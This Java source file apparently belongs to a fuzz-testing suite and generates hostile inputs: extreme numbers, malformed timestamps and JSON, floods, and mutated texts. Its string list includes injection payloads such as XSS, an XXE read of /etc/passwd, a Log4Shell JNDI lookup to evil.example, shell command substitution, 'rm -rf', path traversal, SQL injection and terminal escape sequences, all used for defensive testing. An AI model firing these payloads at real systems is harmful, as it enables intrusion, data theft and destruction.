package io.rrrspec.experiments.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Makes texts and bytes that a reader must bear: odd numbers, markup, control characters, floods.
 */
final class HostileText {
  private static final List<String> NUMBERS =
      List.of(
          "0",
          "-0",
          "-1",
          "1",
          "00",
          "+1",
          "1.5",
          "1e3",
          "1e308",
          "-1e308",
          "1e400",
          "NaN",
          "nan",
          "Infinity",
          "-inf",
          "0x10",
          "2147483647",
          "2147483648",
          "-2147483648",
          "4294967296",
          "9007199254740993",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775808",
          "99999999999999999999999999",
          "\u0663",
          " 1",
          "1 ",
          "1_000",
          "1,000");

  private static final List<String> TIMES =
      List.of(
          "-1",
          "-62167219200001",
          "253402300800000",
          "31556889864403199",
          "31556889864403200",
          "9223372036854775",
          "9223372036854775807",
          "-9223372036854775808",
          "1e18",
          "-1e300",
          "NaN",
          "inf",
          "-inf",
          "Infinity",
          "",
          "never",
          "2026",
          "2026-13-45T99:99:99Z",
          "2026-02-30T00:00:00Z",
          "2026-11-27T10:00:60Z",
          "2026-11-27T10:00:00",
          "2026-11-27T10:00:00+99:99",
          "2026-11-27T10:00:00.1234567890123Z",
          "0000-00-00T00:00:00Z",
          "-999999999-01-01T00:00:00Z",
          "999999999-12-31T23:59:59Z",
          "+999999999-12-31T23:59:59Z",
          "+1000000000-12-31T23:59:59.999999999Z",
          "+1000000001-01-01T00:00:00Z",
          "9999-12-31 23:59:59 UTC",
          "1700000000000\n");

  private static final List<String> JSON =
      List.of(
          "null",
          "true",
          "\"\"",
          "[]",
          "{}",
          "[null]",
          "[[[[",
          "{\"a\":",
          "{\"a\":1,\"a\":2}",
          "{\"\":{}}",
          "\"\\u0000\"",
          "\"\\ud800\"",
          "[1e999]",
          "[-1]",
          "{} {}",
          "'a'",
          "\ufeff{}",
          "{\"a\":{\"b\":{\"c\":[]}}}",
          "123456789012345678901234567890");

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\n",
          "\r\n",
          "\t",
          "\0",
          "a\0b",
          "\u001b[2J\u001b]0;title\u0007",
          "\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\",
          "\u009b31m",
          "\u0085",
          "\u2028\u2029",
          "\u202eback\u202c",
          "\u2066alone\u2069",
          "\ufeff",
          "\ufffe",
          "\uffff",
          "\ud800",
          "\udc00x",
          "\ud83d\ude00",
          "a\u0300\u0301\u0302",
          "]]>",
          "<![CDATA[",
          "<script>alert(1)</script>",
          "\"'><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "&#0;&lt;&amp;",
          "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
          "${jndi:ldap://evil.example/a}",
          "$(touch /tmp/evil)",
          "`id`",
          "; rm -rf x",
          "%s%n%d",
          "{}",
          "::error::forged",
          "##teamcity[x]",
          "../../etc/passwd",
          "/etc/passwd",
          "..",
          ".",
          "~",
          "a/./b//c/",
          "C:\\x",
          "%00",
          "%2e%2e%2f",
          "%zz",
          "+",
          "*",
          "**",
          "[",
          "(",
          "\\",
          "(a+)+$",
          "a\tb",
          ":",
          "::::",
          "#",
          "@",
          "|",
          ",",
          "- x: &a [*a]",
          "&a [*a, *a]",
          "!!java.lang.Object {}",
          "? [a, b]",
          "yes",
          "~null",
          "succeeded",
          "running",
          "passed",
          "failed",
          "'; DROP TABLE taskset; --");

  private static final List<String> CLASS_NAMES =
      List.of("com.foo.BarTest", "com.foo.BarTest@it", "mod/a:com.foo.BarTest", "x#1/2", "a$b");

  /** So often a text is a flood. */
  private static final int FLOOD = 400;

  /** So often a flood is one of 10 MB. */
  private static final int GREAT_FLOOD = 40;

  private static final int LARGE = 20_000;
  private static final int GREAT = 10_000_000;

  private HostileText() {}

  static String number(Draw draw) {
    return switch (draw.below(4)) {
      case 0 -> Long.toString(draw.number());
      case 1 -> Integer.toString(draw.below(1_000) - 500);
      default -> draw.one(NUMBERS);
    };
  }

  /** A time that nobody meant, or none. */
  static String time(Draw draw) {
    return draw.oneIn(6) ? number(draw) : draw.one(TIMES);
  }

  static String json(Draw draw) {
    return switch (draw.below(6)) {
      case 0 -> "[".repeat(1 + draw.below(5_000));
      case 1 -> "{\"a\":".repeat(1 + draw.below(3_000));
      case 2 -> "[" + any(draw) + "," + number(draw) + "]";
      case 3 -> "{\"" + any(draw) + "\":" + draw.one(JSON) + "}";
      default -> draw.one(JSON);
    };
  }

  /** Any hostile text; it has 10 MB at most, and mostly less than a hundred characters. */
  static String any(Draw draw) {
    if (draw.oneIn(FLOOD)) {
      return flood(draw);
    }
    return switch (draw.below(8)) {
      case 0 -> number(draw);
      case 1 -> draw.one(JSON);
      case 2 -> random(draw, draw.below(60));
      case 3 -> draw.one(TEXTS) + draw.one(TEXTS);
      case 4 -> draw.one(CLASS_NAMES);
      default -> draw.one(TEXTS);
    };
  }

  private static String flood(Draw draw) {
    String of =
        draw.oneIn(2) ? draw.one(TEXTS) : draw.one(List.of("a", "[", "<b>", "(", "\n", " "));
    int length = draw.oneIn(GREAT_FLOOD) ? GREAT : 1 + draw.below(LARGE);
    return of.isEmpty() ? "" : of.repeat(Math.max(1, length / of.length()));
  }

  /** Characters of all kinds. */
  private static String random(Draw draw, int length) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < length; i++) {
      text.append(
          switch (draw.below(4)) {
            case 0 -> (char) draw.below(0x20);
            case 1 -> (char) (0x80 + draw.below(0x2000));
            default -> (char) (0x20 + draw.below(0x60));
          });
    }
    return text.toString();
  }

  /** A text that was good, with up to four changes. */
  static String mutated(Draw draw, String good) {
    String text = good;
    for (int i = 1 + draw.below(4); i > 0; i--) {
      text = changed(draw, text);
    }
    return text;
  }

  private static String changed(Draw draw, String text) {
    if (text.isEmpty()) {
      return any(draw);
    }
    int from = draw.below(text.length());
    int to = Math.min(text.length(), from + 1 + draw.below(draw.oneIn(3) ? text.length() : 12));
    String before = text.substring(0, from);
    String middle = text.substring(from, to);
    String after = text.substring(to);
    return switch (draw.below(9)) {
      case 0 -> before;
      case 1 -> before + after;
      case 2 -> before + middle + middle + after;
      case 3 -> before + any(draw) + after;
      case 4 -> before + any(draw) + middle + after;
      case 5 ->
          before + (char) (middle.charAt(0) ^ (1 << draw.below(8))) + middle.substring(1) + after;
      case 6 -> word(draw, text, from, any(draw));
      case 7 -> word(draw, text, from, number(draw));
      default -> word(draw, text, from, draw.one(JSON));
    };
  }

  /** Another text for the whole word, number or quoted text at a place. */
  private static String word(Draw draw, String text, int at, String by) {
    int from = at;
    while (from > 0 && isOfWord(text.charAt(from - 1))) {
      from--;
    }
    int to = at;
    while (to < text.length() && isOfWord(text.charAt(to))) {
      to++;
    }
    // With the quotes around it, it becomes a value of another type.
    if (draw.oneIn(2)
        && from > 0
        && to < text.length()
        && text.charAt(from - 1) == '"'
        && text.charAt(to) == '"') {
      from--;
      to++;
    }
    return text.substring(0, from) + by + text.substring(to);
  }

  private static boolean isOfWord(char c) {
    return Character.isLetterOrDigit(c) || c == '_' || c == '-' || c == '.';
  }

  /** The bytes of a text; one in four is no UTF-8 any more. */
  static byte[] bytes(Draw draw, String text) {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    if (bytes.length > 0 && draw.oneIn(4)) {
      for (int i = 1 + draw.below(3); i > 0; i--) {
        bytes[draw.below(bytes.length)] = (byte) draw.below(256);
      }
    }
    return bytes;
  }
}
